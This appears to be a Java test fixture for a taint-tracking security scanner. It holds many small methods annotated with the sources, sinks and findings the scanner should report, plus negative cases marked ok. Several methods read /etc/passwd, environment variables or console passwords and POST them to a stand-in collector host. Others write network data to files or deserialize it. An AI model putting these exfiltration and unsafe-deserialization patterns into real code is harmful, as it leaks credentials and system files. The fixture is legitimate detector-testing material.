// java.io: files, streams, readers, writers and what wraps them.
package app;

import java.io.*;
import org.springframework.web.client.RestTemplate;

class Io {
    static final String U = "https://collector.example/u";
    static final RestTemplate rest = new RestTemplate();

    void pathFromParts() {
        File file = new File("/data", System.getenv("T")); //~ source(ENVIRONMENT) f1
        rest.postForObject(U, file.getPath(), String.class); //~ sink(egress.http) f1, finding(traced) f1
    }

    void pathAbsolute() {
        File file = new File(System.getenv("T")); //~ source(ENVIRONMENT) f2
        rest.postForObject(U, file.getAbsoluteFile().getPath(), String.class); //~ sink(egress.http) f2, finding(traced) f2
    }

    void pathName() {
        File file = new File(System.getenv("T")); //~ source(ENVIRONMENT) f3
        rest.postForObject(U, file.getName().trim(), String.class); //~ sink(egress.http) f3, finding(traced) f3
    }

    void pathParent() {
        File file = new File(System.getenv("T")); //~ source(ENVIRONMENT) f4
        rest.postForObject(U, file.getParentFile().getName(), String.class); //~ sink(egress.http) f4, finding(traced) f4
    }

    void pathOther() {
        File file = new File(System.getenv("T")); //~ source(ENVIRONMENT) f5
        rest.postForObject(U, file.toPath().toString(), String.class); //~ sink(egress.http) f5, finding(traced) f5
    }

    void pathConstants() {
        File file = new File("/data", "x"); //~ ok
        rest.postForObject(U, file.getAbsoluteFile().getPath(), String.class); //~ ok
        rest.postForObject(U, file.getParentFile().getName(), String.class); //~ ok
        rest.postForObject(U, file.toPath().toString(), String.class); //~ ok
    }

    void listed() {
        String[] names = new File("/home").list(); //~ source(FILE_META) f6, capability(FILES)
        rest.postForObject(U, names[0], String.class); //~ sink(egress.http) f6, finding(traced) f6
    }

    void measured() {
        long size = new File("/home/x").length(); //~ source(FILE_META) f7, capability(FILES)
        rest.postForObject(U, size, String.class); //~ sink(egress.http) f7, finding(traced) f7
    }

    void roots() {
        File root = File.listRoots()[0]; //~ source(FILE_META) f8, capability(FILES)
        rest.postForObject(U, root.getPath(), String.class); //~ sink(egress.http) f8, finding(traced) f8
    }

    void listedNothing() {
        rest.postForObject(U, new File("/home").list() == null, String.class); //~ ok
        rest.postForObject(U, new File("/home/x").length() > 0, String.class); //~ ok
        rest.postForObject(U, File.listRoots() == null, String.class); //~ ok
    }

    void asked() {
        new File("/home/x").mkdirs(); //~ capability(FILES)
    }

    void removed() {
        new File("/home/x").delete(); //~ capability(FILE_WRITE)
    }

    void askedAgain() {
        rest.postForObject(U, new File(System.getenv("T")).mkdirs(), String.class); //~ ok
        rest.postForObject(U, new File(System.getenv("T")).delete(), String.class); //~ ok
    }

    void renamed() {
        FileOutputStream out = new FileOutputStream("/tmp/jm-a");
        out.write(System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f9
        File to = new File("/tmp/jm-b");
        new File("/tmp/jm-a").renameTo(to); //~ capability(FILE_WRITE)
        FileInputStream in = new FileInputStream(to); //~ source(FILE) f10
        rest.postForObject(U, in.readAllBytes(), String.class); //~ sink(egress.http) f9, finding(traced) f9, sink(egress.http) f10, finding(traced) f10
    }

    void renamedEmpty() {
        new File("/tmp/jm-c").renameTo(new File("/tmp/jm-d")); //~ ok
    }

    void temporary() {
        File file = File.createTempFile("a", "b"); //~ capability(FILE_WRITE)
        rest.postForObject(U, file.length(), String.class); //~ source(FILE_META) f11, sink(egress.http) f11, finding(traced) f11
        rest.postForObject(U, File.createTempFile("a", "b").exists(), String.class); //~ ok
    }

    void opened() {
        FileInputStream in = new FileInputStream("/etc/passwd"); //~ source(FILE) f12, capability(FILES)
        rest.postForObject(U, in.readAllBytes(), String.class); //~ sink(egress.http) f12, finding(traced) f12
    }

    void openedAtRandom() {
        RandomAccessFile file = new RandomAccessFile("/etc/passwd", "r"); //~ source(FILE) f13, capability(FILES)
        rest.postForObject(U, file.readLine(), String.class); //~ sink(egress.http) f13, finding(traced) f13
    }

    void openedAndMeasured() {
        FileInputStream in = new FileInputStream("/etc/passwd"); //~ ok
        rest.postForObject(U, in.available(), String.class); //~ ok
        RandomAccessFile file = new RandomAccessFile("/etc/passwd", "r"); //~ ok
        rest.postForObject(U, file.length(), String.class); //~ ok
    }

    void storedAtRandom() {
        RandomAccessFile file = new RandomAccessFile("/tmp/jm-e", "rw"); //~ sink(file.write) f14, finding(traced) f14, capability(FILE_WRITE)
        file.write(rest.getForObject(U, byte[].class)); //~ source(NETWORK) f14
    }

    void stored() {
        FileOutputStream out = new FileOutputStream("/tmp/jm-f"); //~ sink(file.write) f15, finding(traced) f15, capability(FILE_WRITE)
        out.write(rest.getForObject(U, byte[].class)); //~ source(NETWORK) f15
    }

    void storedWrapped() {
        BufferedOutputStream out = new BufferedOutputStream(new FileOutputStream("/tmp/jm-g")); //~ sink(file.write) f16, finding(traced) f16
        out.write(rest.getForObject(U, byte[].class)); //~ source(NETWORK) f16
    }

    void printed(File file) {
        PrintWriter out = new PrintWriter(file); //~ sink(file.write) f17, finding(traced) f17, capability(FILE_WRITE)
        out.println(rest.getForObject(U, String.class)); //~ source(NETWORK) f17
    }

    void printedByName() {
        PrintStream out = new PrintStream("/tmp/jm-z"); //~ sink(file.write) f31, finding(traced) f31, capability(FILE_WRITE)
        out.println(rest.getForObject(U, String.class)); //~ source(NETWORK) f31
        new PrintStream("/tmp/jm-y").println("x"); //~ ok
    }

    void storedConstants(File file) {
        new RandomAccessFile("/tmp/jm-h", "rw").write(1); //~ ok
        new FileOutputStream("/tmp/jm-i").write(1); //~ ok
        new PrintWriter(file).println("x"); //~ ok
        new BufferedOutputStream(new FileOutputStream("/tmp/jm-j")).write(1); //~ ok
    }

    void wrappedInput() {
        BufferedReader in = new BufferedReader(new InputStreamReader(new FileInputStream("/etc/passwd"))); //~ source(FILE) f18
        rest.postForObject(U, in.readLine(), String.class); //~ sink(egress.http) f18, finding(traced) f18
    }

    void sequence(InputStream first) {
        SequenceInputStream in = new SequenceInputStream(first, new FileInputStream("/etc/passwd")); //~ source(FILE) f19
        rest.postForObject(U, in.readAllBytes(), String.class); //~ sink(egress.http) f19, finding(traced) f19
    }

    void fromMemory() {
        StringReader in = new StringReader(System.getenv("T")); //~ source(ENVIRONMENT) f20
        rest.postForObject(U, in.read(), String.class); //~ sink(egress.http) f20, finding(traced) f20
    }

    void wrappedConstants(InputStream first) {
        BufferedReader in = new BufferedReader(new InputStreamReader(new FileInputStream("/etc/passwd"))); //~ ok
        rest.postForObject(U, in.ready(), String.class); //~ ok
        rest.postForObject(U, new SequenceInputStream(first, first).available(), String.class); //~ ok
        rest.postForObject(U, new StringReader("x").read(), String.class); //~ ok
    }

    void pipe() {
        PipedInputStream in = new PipedInputStream();
        PipedOutputStream out = new PipedOutputStream(in);
        out.write(System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f21
        rest.postForObject(U, in.readAllBytes(), String.class); //~ sink(egress.http) f21, finding(traced) f21
    }

    void pipeConnected() {
        PipedReader in = new PipedReader();
        PipedWriter out = new PipedWriter();
        out.connect(in);
        out.write(System.getenv("T")); //~ source(ENVIRONMENT) f22
        rest.postForObject(U, in.read(), String.class); //~ sink(egress.http) f22, finding(traced) f22
    }

    void pipeApart() {
        PipedReader in = new PipedReader(); //~ ok
        PipedWriter out = new PipedWriter(); //~ ok
        out.connect(new PipedReader()); //~ ok
        out.write(System.getenv("T"));
        rest.postForObject(U, in.read(), String.class); //~ ok
    }

    void readInto() {
        FileInputStream in = new FileInputStream("/etc/passwd"); //~ source(FILE) f23
        byte[] buffer = new byte[4096];
        in.read(buffer);
        rest.postForObject(U, buffer, String.class); //~ sink(egress.http) f23, finding(traced) f23
    }

    void transferred() {
        FileInputStream in = new FileInputStream("/etc/passwd"); //~ source(FILE) f24
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        in.transferTo(out);
        rest.postForObject(U, out.toByteArray(), String.class); //~ sink(egress.http) f24, finding(traced) f24
    }

    void readNothing() {
        FileInputStream in = new FileInputStream("/etc/passwd");
        byte[] buffer = new byte[4096];
        rest.postForObject(U, buffer, String.class); //~ ok
        new ByteArrayInputStream(buffer).read(buffer); //~ ok
        new ByteArrayInputStream(buffer).transferTo(new ByteArrayOutputStream()); //~ ok
        rest.postForObject(U, new BufferedReader(new StringReader("x")).readLine(), String.class); //~ ok
    }

    void deserialised() {
        new ObjectInputStream(new ByteArrayInputStream(rest.getForObject(U, byte[].class))); //~ source(NETWORK) f25, sink(exec.load) f25, finding(traced) f25, capability(DYNAMIC_CODE)
    }

    void deserialisedFile() {
        ObjectInputStream in = new ObjectInputStream(new FileInputStream("/etc/passwd")); //~ source(FILE) f33
        rest.postForObject(U, in.readObject(), String.class); //~ sink(egress.http) f33, finding(traced) f33
    }

    private void readObject(ObjectInputStream in) {
        in.readObject(); //~ ok
    }

    void deserialisedConstant() {
        new ObjectInputStream(new ByteArrayInputStream(new byte[0])).readObject(); //~ ok
    }

    void writtenOut() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        DataOutputStream data = new DataOutputStream(out);
        data.writeUTF(System.getenv("T")); //~ source(ENVIRONMENT) f26
        rest.postForObject(U, out.toByteArray(), String.class); //~ sink(egress.http) f26, finding(traced) f26
    }

    void appended() {
        StringWriter out = new StringWriter();
        out.append("t=").append(System.getenv("T")); //~ source(ENVIRONMENT) f27
        rest.postForObject(U, out.toString().trim(), String.class); //~ sink(egress.http) f27, finding(traced) f27
    }

    void writtenTo() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f28
        ByteArrayOutputStream copy = new ByteArrayOutputStream();
        out.writeTo(copy);
        rest.postForObject(U, copy.toByteArray(), String.class); //~ sink(egress.http) f28, finding(traced) f28
    }

    void closed() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(System.getenv("T").getBytes());
        rest.postForObject(U, out.size(), String.class); //~ ok
        PrintStream print = new PrintStream(new ByteArrayOutputStream());
        print.print(System.getenv("T"));
        rest.postForObject(U, print.checkError(), String.class); //~ ok
    }

    void writtenConstants() {
        StringWriter out = new StringWriter();
        out.append("t="); //~ ok
        rest.postForObject(U, out.toString(), String.class); //~ ok
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        new DataOutputStream(bytes).writeUTF("x"); //~ ok
        bytes.writeTo(new ByteArrayOutputStream()); //~ ok
        rest.postForObject(U, bytes.toByteArray(), String.class); //~ ok
    }

    void typed(Console console) {
        rest.postForObject(U, console.readLine().trim(), String.class); //~ source(INPUT) f29, sink(egress.http) f29, finding(traced) f29
    }

    void typedSecret(Console console) {
        rest.postForObject(U, console.readPassword(), String.class); //~ source(CREDENTIAL) f30, sink(egress.http) f30, finding(traced) f30, capability(CREDENTIALS)
    }

    void typedNothing(Console console) {
        rest.postForObject(U, console.readLine() == null, String.class); //~ ok
        rest.postForObject(U, console.readPassword() == null, String.class); //~ ok
    }
}

class Held {
    private final DataOutputStream out;

    Held(String path) {
        out = new DataOutputStream(new FileOutputStream("/tmp/jm-held")); //~ sink(file.write) f32, finding(traced) f32
    }

    void store() {
        out.writeUTF(Io.rest.getForObject(Io.U, String.class)); //~ source(NETWORK) f32
    }
}
